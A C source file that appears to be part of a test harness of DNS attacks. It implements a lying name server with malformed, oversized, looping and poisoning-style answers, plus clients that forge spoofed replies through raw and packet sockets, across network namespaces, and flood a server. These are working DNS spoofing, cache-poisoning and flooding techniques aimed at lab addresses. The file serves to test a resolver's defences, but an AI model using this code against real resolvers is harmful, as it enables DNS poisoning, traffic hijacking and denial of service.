// SPDX-License-Identifier: Apache-2.0
/*
 * dns.c - names for addresses that have none: a name server that lies in every way, and clients
 * that help it
 *
 *	dns-server ADDRESS...	answers on port 53 of each, UDP and TCP. What it does is told by the
 *				name: KIND-A-B-C-D.anything has the address A.B.C.D, and KIND is one of
 *				`kinds` below
 *	dns-ask SERVER NAME	asks by UDP, from a socket that takes answers of anybody, and reads
 *				what comes until there is an answer (or two, of KIND dup)
 *	dns-tcp SERVER NAME	by TCP
 *	dns-connect ADDRESS	what all this is for
 *
 * and some that do one thing each.
 */
#include <arpa/inet.h>
#include <fcntl.h>
#include <linux/if_ether.h>
#include <linux/errqueue.h>
#include <linux/net_tstamp.h>
#include <linux/sock_diag.h>
#include <net/if.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <netinet/udp.h>
#include <netpacket/packet.h>
#include <poll.h>
#include <sched.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "attack.h"

#define TRUSTED	 "www.trusted.test"
#define ID	 0x1234
#define WAIT_MS	 3000
#define FD_MAX	 32

struct msg {
	uint8_t bytes[65537];
	size_t len;
};

static void put8(struct msg *m, unsigned int v)
{
	m->bytes[m->len++] = (uint8_t)v;
}

static void put16(struct msg *m, unsigned int v)
{
	put8(m, v >> 8);
	put8(m, v);
}

static void put_name(struct msg *m, const char *name)
{
	while (*name) {
		size_t n = strcspn(name, ".");

		put8(m, (unsigned int)n);
		memcpy(m->bytes + m->len, name, n);
		m->len += n;
		name += n + (name[n] == '.');
	}
	put8(m, 0);
}

static void put_question(struct msg *m, unsigned int id, unsigned int flags, const char *name)
{
	m->len = 0;
	put16(m, id);
	put16(m, flags);
	put16(m, 1);
	put16(m, 0);
	put16(m, 0);
	put16(m, 0);
	put_name(m, name);
	put16(m, 1);
	put16(m, 1);
}

static void count_one(struct msg *m, size_t at)
{
	unsigned int n = (unsigned int)(m->bytes[at] << 8 | m->bytes[at + 1]) + 1;

	m->bytes[at] = (uint8_t)(n >> 8);
	m->bytes[at + 1] = (uint8_t)n;
}

#define ANSWERS	   6
#define ADDITIONAL 10

/* Behind its owner. */
static void put_tail(struct msg *m, unsigned int type, uint32_t ttl, const void *data, size_t len,
		     size_t section)
{
	count_one(m, section);
	put16(m, type);
	put16(m, 1);
	put16(m, ttl >> 16);
	put16(m, ttl);
	put16(m, (unsigned int)len);
	memcpy(m->bytes + m->len, data, len);
	m->len += len;
}

static void put_a(struct msg *m, const char *owner, uint32_t addr, uint32_t ttl, size_t section)
{
	put_name(m, owner);
	put_tail(m, 1, ttl, &addr, 4, section);
}

static void put_cname(struct msg *m, const char *owner, const char *to)
{
	struct msg name = { .len = 0 };

	put_name(&name, to);
	put_name(m, owner);
	put_tail(m, 5, 60, name.bytes, name.len, ANSWERS);
}

/* Records of a kind that is nobody's, in front. */
static void put_padding(struct msg *m, const char *owner, size_t until)
{
	static const uint8_t none[200];

	while (m->len + 1000 < until) {
		put_name(m, owner);
		put_tail(m, 65280, 60, none, sizeof(none), ANSWERS);
	}
}

/* A whole answer that was never asked for in this form, as bytes of a stream. */
static void forge(struct msg *m, unsigned int id, const char *name, uint32_t addr)
{
	struct msg a;

	put_question(&a, id, 0x8180, name);
	put_a(&a, name, addr, 60, ANSWERS);
	m->len = 0;
	put16(m, (unsigned int)a.len);
	memcpy(m->bytes + m->len, a.bytes, a.len);
	m->len += a.len;
}

/* --- the server --- */

struct asked {
	const char *name;
	unsigned int id;
	uint32_t addr;
	bool tcp;
};

static void kind_ok(struct msg *m, const struct asked *q) { put_a(m, q->name, q->addr, 60, ANSWERS); }
static void kind_ttl0(struct msg *m, const struct asked *q) { put_a(m, q->name, q->addr, 0, ANSWERS); }
static void kind_ttl31(struct msg *m, const struct asked *q) { put_a(m, q->name, q->addr, 1u << 31, ANSWERS); }

static void kind_id(struct msg *m, const struct asked *q)
{
	kind_ok(m, q);
	m->bytes[1] ^= 1;
}

static void kind_question(struct msg *m, const struct asked *q)
{
	put_question(m, q->id, 0x8180, TRUSTED);
	put_a(m, TRUSTED, q->addr, 60, ANSWERS);
}

static void kind_noquestion(struct msg *m, const struct asked *q)
{
	m->len = 12;
	m->bytes[5] = 0;
	kind_ok(m, q);
}

static void kind_extra(struct msg *m, const struct asked *q)
{
	put_a(m, q->name, htonl(0x0a6300c8), 60, ANSWERS);
	put_a(m, TRUSTED, q->addr, 60, ADDITIONAL);
}

static void kind_stray(struct msg *m, const struct asked *q)
{
	put_a(m, TRUSTED, q->addr, 60, ANSWERS);
}

static void kind_chain(struct msg *m, const struct asked *q)
{
	put_cname(m, q->name, "x.evil.test");
	put_a(m, TRUSTED, q->addr, 60, ANSWERS);
}

/* The owner is a pointer to itself. */
static void kind_loop(struct msg *m, const struct asked *q)
{
	put16(m, 0xc000 | (unsigned int)m->len);
	put_tail(m, 1, 60, &q->addr, 4, ANSWERS);
}

/* Two pointers, each to the other: from the question's place on. */
static void kind_loops(struct msg *m, const struct asked *q)
{
	unsigned int at = (unsigned int)m->len;

	put8(m, 1);
	put8(m, 'a');
	put16(m, 0xc000 | at);
	put_tail(m, 1, 60, &q->addr, 4, ANSWERS);
}

static void kind_circle(struct msg *m, const struct asked *q)
{
	put_cname(m, q->name, TRUSTED);
	put_cname(m, TRUSTED, q->name);
	put_a(m, TRUSTED, q->addr, 60, ANSWERS);
}

/* As many as there is room for: 4,096 with their owner would be 64 KiB and a header. */
static void kind_many(struct msg *m, const struct asked *q)
{
	for (unsigned int i = 0; m->len + 16 <= 65535; i++) {
		uint32_t addr = htonl(0x0b000000 + i);

		put16(m, 0xc00c);
		put_tail(m, 1, 60, i ? &addr : &q->addr, 4, ANSWERS);
	}
}

static void kind_big(struct msg *m, const struct asked *q)
{
	put_padding(m, q->name, 65000);
	kind_ok(m, q);
}

/* Within a record of its own domain another answer, at a place that the client knows. */
#define HIDDEN_AT 600
static void kind_hidden(struct msg *m, const struct asked *q)
{
	struct msg inner;
	uint8_t data[1024] = { 0 };
	size_t begin;

	put_name(m, q->name);
	begin = m->len + 10;
	forge(&inner, ID + 1, TRUSTED, q->addr);
	memcpy(data + HIDDEN_AT - 2 - begin, inner.bytes, inner.len);
	put_tail(m, 16, 60, data, sizeof(data), ANSWERS);
}

/* What the kinds without a function do is done when it is sent. */
static const struct kind {
	const char *name;
	void (*make)(struct msg *m, const struct asked *q);
} kinds[] = {
	{ "ok", kind_ok }, { "id", kind_id }, { "question", kind_question },
	{ "noquestion", kind_noquestion }, { "extra", kind_extra }, { "stray", kind_stray },
	{ "chain", kind_chain }, { "loop", kind_loop }, { "loops", kind_loops },
	{ "circle", kind_circle }, { "many", kind_many }, { "big", kind_big },
	{ "hidden", kind_hidden }, { "ttl0", kind_ttl0 }, { "ttl31", kind_ttl31 },
	{ "port", kind_ok },	/* from port 5353 */
	{ "host", kind_ok },	/* from another address of this host, port 53 */
	{ "spoof", kind_ok },	/* with the source address of somebody else */
	{ "dup", kind_ok },	/* and again with another address */
	{ "late", kind_ok },	/* a second later */
	{ "none", NULL },	/* never */
};

static const struct kind *kind_of(const char *name)
{
	size_t len = strcspn(name, "-.");

	for (size_t i = 0; i < sizeof(kinds) / sizeof(kinds[0]); i++)
		if (strlen(kinds[i].name) == len && !strncasecmp(name, kinds[i].name, len))
			return &kinds[i];
	return NULL;
}

static bool is_kind(const struct kind *kind, const char *name)
{
	return !strcmp(kind->name, name);
}

static uint32_t addr_in(const char *name)
{
	unsigned int a, b, c, d;

	name += strcspn(name, "-.");
	return sscanf(name, "-%u-%u-%u-%u", &a, &b, &c, &d) == 4 ? htonl(a << 24 | b << 16 | c << 8 | d) : 0;
}

/* The name asked for, as it was written. */
static bool read_question(const uint8_t *bytes, size_t len, char *ret_name, struct asked *ret_asked)
{
	size_t at = 12, out = 0;

	while (at < len && bytes[at]) {
		size_t n = bytes[at++];

		if (n > 63 || at + n >= len || out + n > 250)
			return false;
		if (out)
			ret_name[out++] = '.';
		memcpy(ret_name + out, bytes + at, n);
		out += n;
		at += n;
	}
	ret_name[out] = '\0';
	*ret_asked = (struct asked){
		.name = ret_name, .id = (unsigned int)(bytes[0] << 8 | bytes[1]), .addr = addr_in(ret_name),
	};
	return at < len;
}

static struct sockaddr_in in_addr_of(const char *addr, unsigned int port)
{
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons((uint16_t)port) };

	must(inet_pton(AF_INET, addr, &a.sin_addr) == 1, addr);
	return a;
}

static int bound(int type, const char *addr, unsigned int port)
{
	struct sockaddr_in a = in_addr_of(addr, port);
	int fd = socket(AF_INET, type | SOCK_CLOEXEC, 0), one = 1;

	setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	must(!bind(fd, (struct sockaddr *)&a, sizeof(a)), "bind");
	return fd;
}

/* One datagram with a source that is not ours. */
static void send_spoofed(const struct sockaddr_in *from, const struct sockaddr_in *to, const struct msg *m)
{
	uint8_t packet[2048] = { 0 };
	struct iphdr *ip = (struct iphdr *)packet;
	struct udphdr *udp = (struct udphdr *)(ip + 1);
	int fd = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW);
	size_t len = sizeof(*ip) + sizeof(*udp) + m->len;

	must(fd >= 0 && len <= sizeof(packet), "raw socket");
	*ip = (struct iphdr){ .version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_UDP,
			      .tot_len = htons((uint16_t)len),
			      .saddr = from->sin_addr.s_addr, .daddr = to->sin_addr.s_addr };
	*udp = (struct udphdr){ .source = from->sin_port, .dest = to->sin_port,
				.len = htons((uint16_t)(sizeof(*udp) + m->len)) };
	memcpy(udp + 1, m->bytes, m->len);
	must(sendto(fd, packet, len, 0, (const struct sockaddr *)to, sizeof(*to)) == (ssize_t)len,
	     "send a packet of somebody else");
	close(fd);
}

static void answer_udp(int fd, const struct sockaddr_in *to, const struct kind *kind, struct asked *q,
		       struct msg *m)
{
	struct sockaddr_in from;
	struct timespec second = { .tv_sec = 1 };
	int out = fd;

	if (is_kind(kind, "spoof")) {
		from = in_addr_of("10.99.0.53", 53);
		send_spoofed(&from, to, m);
		return;
	}
	if (is_kind(kind, "port"))
		out = bound(SOCK_DGRAM, "10.99.0.54", 5353);
	if (is_kind(kind, "host"))
		out = bound(SOCK_DGRAM, "10.99.0.2", 53);
	if (is_kind(kind, "late"))
		nanosleep(&second, NULL);
	sendto(out, m->bytes, m->len, 0, (const struct sockaddr *)to, sizeof(*to));
	if (out != fd)
		close(out);
	if (is_kind(kind, "dup")) {
		put_question(m, q->id, 0x8180, q->name);
		q->addr = htonl(ntohl(q->addr) + 1);
		kind_ok(m, q);
		sendto(fd, m->bytes, m->len, 0, (const struct sockaddr *)to, sizeof(*to));
	}
}

static const struct kind *make_answer(const uint8_t *bytes, size_t len, bool tcp, char *name,
				      struct asked *q, struct msg *m)
{
	const struct kind *kind;

	if (len < 17 || !read_question(bytes, len, name, q))
		return NULL;
	kind = kind_of(name);
	if (!kind || !kind->make)
		return NULL;
	q->tcp = tcp;
	put_question(m, q->id, 0x8180, name);
	kind->make(m, q);
	return kind;
}

static void serve_udp(int fd)
{
	uint8_t bytes[2048];
	struct sockaddr_in from;
	socklen_t from_len = sizeof(from);
	ssize_t n = recvfrom(fd, bytes, sizeof(bytes), 0, (struct sockaddr *)&from, &from_len);
	const struct kind *kind;
	static struct msg m;
	char name[256];
	struct asked q;

	kind = n > 0 ? make_answer(bytes, (size_t)n, false, name, &q, &m) : NULL;
	if (kind)
		answer_udp(fd, &from, kind, &q, &m);
}

/* Each message on its own, in many segments. */
static void serve_tcp(int listener)
{
	int fd = accept4(listener, NULL, NULL, SOCK_CLOEXEC), one = 1;
	uint8_t head[2], bytes[2048];
	static struct msg m;
	char name[256];
	struct asked q;

	setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof(one));
	while (recv(fd, head, 2, MSG_WAITALL) == 2) {
		size_t len = (size_t)(head[0] << 8 | head[1]), piece;

		if (len > sizeof(bytes) || recv(fd, bytes, len, MSG_WAITALL) != (ssize_t)len)
			break;
		if (!make_answer(bytes, len, true, name, &q, &m))
			continue;
		head[0] = (uint8_t)(m.len >> 8);
		head[1] = (uint8_t)m.len;
		send(fd, head, 2, MSG_NOSIGNAL);
		for (size_t at = 0; at < m.len; at += piece) {
			piece = m.len - at < 500 ? m.len - at : 500;
			if (send(fd, m.bytes + at, piece, MSG_NOSIGNAL) != (ssize_t)piece)
				break;
		}
	}
	close(fd);
}

static int server(int argc, char **argv)
{
	struct pollfd fds[FD_MAX];
	nfds_t n = 0;

	for (int i = 1; i < argc && n + 2 <= FD_MAX; i++) {
		fds[n++] = (struct pollfd){ bound(SOCK_DGRAM, argv[i], 53), POLLIN, 0 };
		fds[n++] = (struct pollfd){ bound(SOCK_STREAM, argv[i], 53), POLLIN, 0 };
		must(!listen(fds[n - 1].fd, 16), "listen");
	}
	fact("serving", "yes");
	while (poll(fds, n, -1) > 0) {
		for (nfds_t i = 0; i < n; i++) {
			if (fds[i].revents && i % 2)
				serve_tcp(fds[i].fd);
			else if (fds[i].revents)
				serve_udp(fds[i].fd);
		}
	}
	return 1;
}

/* --- clients --- */

static bool answered(int fd)
{
	struct pollfd p = { fd, POLLIN, 0 };
	uint8_t bytes[2048];

	return poll(&p, 1, WAIT_MS) == 1 && recv(fd, bytes, sizeof(bytes), 0) > 0;
}

/* 0 where there was an answer (whichever it was). */
static int ask(int argc, char **argv)
{
	struct sockaddr_in to = in_addr_of(argv[1], 53);
	int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	struct msg m;

	must(argc == 3, "SERVER NAME");
	put_question(&m, ID, 0x0100, argv[2]);
	must(sendto(fd, m.bytes, m.len, 0, (struct sockaddr *)&to, sizeof(to)) > 0, "ask");
	must(answered(fd), "no answer");
	if (!strncmp(argv[2], "dup-", 4))
		must(answered(fd), "no second answer");
	return 0;
}

static int connect_tcp(const char *addr)
{
	struct sockaddr_in to = in_addr_of(addr, 53);
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	struct timeval limit = { .tv_sec = WAIT_MS / 1000 };

	must(!connect(fd, (struct sockaddr *)&to, sizeof(to)), "connect to the server");
	setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &limit, sizeof(limit));
	return fd;
}

static void send_message(int fd, const struct msg *m)
{
	struct msg s = { .len = 0 };

	put16(&s, (unsigned int)m->len);
	memcpy(s.bytes + 2, m->bytes, m->len);
	must(send(fd, s.bytes, m->len + 2, 0) == (ssize_t)m->len + 2, "ask");
}

static int ask_tcp(int argc, char **argv)
{
	int fd = connect_tcp(argv[1]);
	static uint8_t bytes[65536];
	uint8_t head[2];
	size_t len;
	struct msg m;

	must(argc == 3, "SERVER NAME");
	put_question(&m, ID, 0x0100, argv[2]);
	send_message(fd, &m);
	must(recv(fd, head, 2, MSG_WAITALL) == 2, "the answer's length");
	len = (size_t)(head[0] << 8 | head[1]);
	must(recv(fd, bytes, len, MSG_WAITALL) == (ssize_t)len, "the answer");
	fact("length", "%zu", len);
	return 0;
}

/* hidden-A-B-C-D.evil.test: what is in front of the hidden answer is thrown away unseen. */
static int midstream(int argc, char **argv)
{
	int fd = connect_tcp(argv[1]);
	static uint8_t bytes[65536];
	struct msg m;

	must(argc == 3, "SERVER NAME");
	/* a question that is not answered, and one that is */
	put_question(&m, ID + 1, 0x0100, TRUSTED);
	send_message(fd, &m);
	put_question(&m, ID, 0x0100, argv[2]);
	send_message(fd, &m);
	must(recv(fd, bytes, HIDDEN_AT, MSG_WAITALL | MSG_TRUNC) == HIDDEN_AT, "pass over");
	must(recv(fd, bytes, sizeof(bytes), 0) > 0 && bytes[2] == (ID >> 8), "the hidden answer");
	return 0;
}

/* What was sent comes back by the queue of errors, as if it was received. */
static int errqueue(int argc, char **argv)
{
	unsigned int how = SOF_TIMESTAMPING_TX_SOFTWARE | SOF_TIMESTAMPING_TX_ACK |
			   SOF_TIMESTAMPING_TX_SCHED | SOF_TIMESTAMPING_SOFTWARE | SOF_TIMESTAMPING_OPT_ID;
	int fd = connect_tcp(argv[1]);
	char control[512], bytes[2048];
	struct iovec iov = { bytes, sizeof(bytes) };
	struct pollfd p = { fd, 0, 0 };
	unsigned int got = 0;
	struct msg m;

	must(argc == 3, "SERVER ADDRESS");
	must(!setsockopt(fd, SOL_SOCKET, SO_TIMESTAMPING, &how, sizeof(how)), "SO_TIMESTAMPING");
	put_question(&m, ID, 0x0100, TRUSTED);
	send_message(fd, &m);
	forge(&m, ID, TRUSTED, in_addr_of(argv[2], 0).sin_addr.s_addr);
	must(send(fd, m.bytes, m.len, 0) == (ssize_t)m.len, "send");
	while (poll(&p, 1, 500) == 1) {
		struct msghdr hdr = { .msg_iov = &iov, .msg_iovlen = 1, .msg_control = control,
				      .msg_controllen = sizeof(control) };

		if (recvmsg(fd, &hdr, MSG_ERRQUEUE | MSG_DONTWAIT) < 0)
			break;
		got++;
	}
	fact("returned", "%u", got);
	return got ? 0 : cannot("nothing comes back");
}

static unsigned int queued(int fd)
{
	uint32_t mem[SK_MEMINFO_VARS] = { 0 };
	socklen_t len = sizeof(mem);

	return getsockopt(fd, SOL_SOCKET, SO_MEMINFO, mem, &len) ? 0 : mem[SK_MEMINFO_RMEM_ALLOC];
}

static void wait_queued(int fd, unsigned int more)
{
	struct timespec ms = { .tv_nsec = 1000000 };

	for (int i = 0; i < WAIT_MS && queued(fd) <= more; i++)
		nanosleep(&ms, NULL);
	must(queued(fd) > more, "no packet came");
}

/*
 * dns-slip SERVER NAME ADDRESS: a forged answer with the server's address and the right id, by a raw
 * socket of this machine, lies in front of the server's own.
 */
static int slip(int argc, char **argv)
{
	struct sockaddr_in srv = in_addr_of(argv[1], 53), me = { .sin_family = AF_INET };
	int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	socklen_t len = sizeof(me);
	unsigned int first;
	struct msg m, q;

	must(argc == 4, "SERVER NAME ADDRESS");
	must(!connect(fd, (struct sockaddr *)&srv, sizeof(srv)) &&
	     !getsockname(fd, (struct sockaddr *)&me, &len), "a socket");
	put_question(&m, ID, 0x8180, argv[2]);
	put_a(&m, argv[2], in_addr_of(argv[3], 0).sin_addr.s_addr, 60, ANSWERS);
	put_question(&q, ID, 0x0100, argv[2]);
	send_spoofed(&srv, &me, &m);
	wait_queued(fd, 0);
	first = queued(fd);
	must(send(fd, q.bytes, q.len, 0) > 0, "ask");
	if (strncmp(argv[2], "none-", 5))
		wait_queued(fd, first);
	must(answered(fd), "no answer");
	return 0;
}

/* Asks, and somebody who was told port and id answers with the server's address. */
static int forged(char **argv, void (*send_answer)(const struct sockaddr_in *from,
						   const struct sockaddr_in *to, const struct msg *m))
{
	struct sockaddr_in srv = in_addr_of(argv[1], 53), me = { .sin_family = AF_INET };
	int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	socklen_t len = sizeof(me);
	struct msg m;

	must(!connect(fd, (struct sockaddr *)&srv, sizeof(srv)) &&
	     !getsockname(fd, (struct sockaddr *)&me, &len), "a socket");
	put_question(&m, ID, 0x0100, argv[2]);
	must(send(fd, m.bytes, m.len, 0) > 0, "ask");
	put_question(&m, ID, 0x8180, argv[2]);
	put_a(&m, argv[2], in_addr_of(argv[3], 0).sin_addr.s_addr, 60, ANSWERS);
	send_answer(&srv, &me, &m);
	must(answered(fd), "no answer");
	return 0;
}

static const char *accomplice;

static void send_from_there(const struct sockaddr_in *from, const struct sockaddr_in *to, const struct msg *m)
{
	int here = open("/proc/self/ns/net", O_RDONLY | O_CLOEXEC), there = open(accomplice, O_RDONLY | O_CLOEXEC);

	must(!setns(there, CLONE_NEWNET), accomplice);
	send_spoofed(from, to, m);
	must(!setns(here, CLONE_NEWNET), "back");
}

/* dns-accomplice SERVER NAME ADDRESS NETNS: the answer is sent in another network namespace. */
static int by_accomplice(int argc, char **argv)
{
	must(argc == 5, "SERVER NAME ADDRESS NETNS");
	accomplice = argv[4];
	return forged(argv, send_from_there);
}

static uint16_t checksum(const uint8_t *bytes, size_t len)
{
	uint32_t sum = 0;

	for (size_t i = 0; i + 1 < len; i += 2)
		sum += (uint32_t)(bytes[i] << 8 | bytes[i + 1]);
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return (uint16_t)~sum;
}

/* As if the loopback device had it. */
static void send_by_packet(const struct sockaddr_in *from, const struct sockaddr_in *to, const struct msg *m)
{
	struct sockaddr_ll lo = { .sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_IP),
				  .sll_ifindex = (int)if_nametoindex("lo"), .sll_halen = 6 };
	int fd = socket(AF_PACKET, SOCK_DGRAM | SOCK_CLOEXEC, htons(ETH_P_IP));
	uint8_t packet[2048] = { 0 };
	struct iphdr *ip = (struct iphdr *)packet;
	struct udphdr *udp = (struct udphdr *)(ip + 1);
	size_t len = sizeof(*ip) + sizeof(*udp) + m->len;

	must(fd >= 0 && len <= sizeof(packet), "packet socket");
	*ip = (struct iphdr){ .version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_UDP,
			      .tot_len = htons((uint16_t)len),
			      .saddr = from->sin_addr.s_addr, .daddr = to->sin_addr.s_addr };
	ip->check = htons(checksum(packet, sizeof(*ip)));
	*udp = (struct udphdr){ .source = from->sin_port, .dest = to->sin_port,
				.len = htons((uint16_t)(sizeof(*udp) + m->len)) };
	memcpy(udp + 1, m->bytes, m->len);
	must(sendto(fd, packet, len, 0, (struct sockaddr *)&lo, sizeof(lo)) == (ssize_t)len, "send a packet");
	close(fd);
}

/* dns-packet SERVER NAME ADDRESS: the answer is put on the loopback device as a packet. */
static int by_packet(int argc, char **argv)
{
	must(argc == 4, "SERVER NAME ADDRESS");
	return forged(argv, send_by_packet);
}

/* dns-flood SERVER N: questions that nobody answers, as fast as can be. */
static int flood(int argc, char **argv)
{
	struct sockaddr_in to = in_addr_of(argv[1], 53);
	int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	unsigned int n = argc == 3 ? (unsigned int)atoi(argv[2]) : 0;
	struct msg m;
	char name[64];

	for (unsigned int i = 0; i < n; i++) {
		snprintf(name, sizeof(name), "none-%u.flood.test", i);
		put_question(&m, i & 0xffff, 0x0100, name);
		sendto(fd, m.bytes, m.len, MSG_DONTWAIT, (struct sockaddr *)&to, sizeof(to));
	}
	fact("sent", "%u", n);
	return 0;
}

static int connect_to(int argc, char **argv)
{
	struct sockaddr_in to = in_addr_of(argc == 2 ? argv[1] : "0.0.0.0", 80);
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);

	must(!connect(fd, (struct sockaddr *)&to, sizeof(to)) || errno == EINPROGRESS, "connect");
	return 0;
}

const struct attack attacks_dns[] = {
	{ "dns-server", server },
	{ "dns-ask", ask },
	{ "dns-tcp", ask_tcp },
	{ "dns-midstream", midstream },
	{ "dns-errqueue", errqueue },
	{ "dns-slip", slip },
	{ "dns-accomplice", by_accomplice },
	{ "dns-packet", by_packet },
	{ "dns-flood", flood },
	{ "dns-connect", connect_to },
	{ 0 },
};
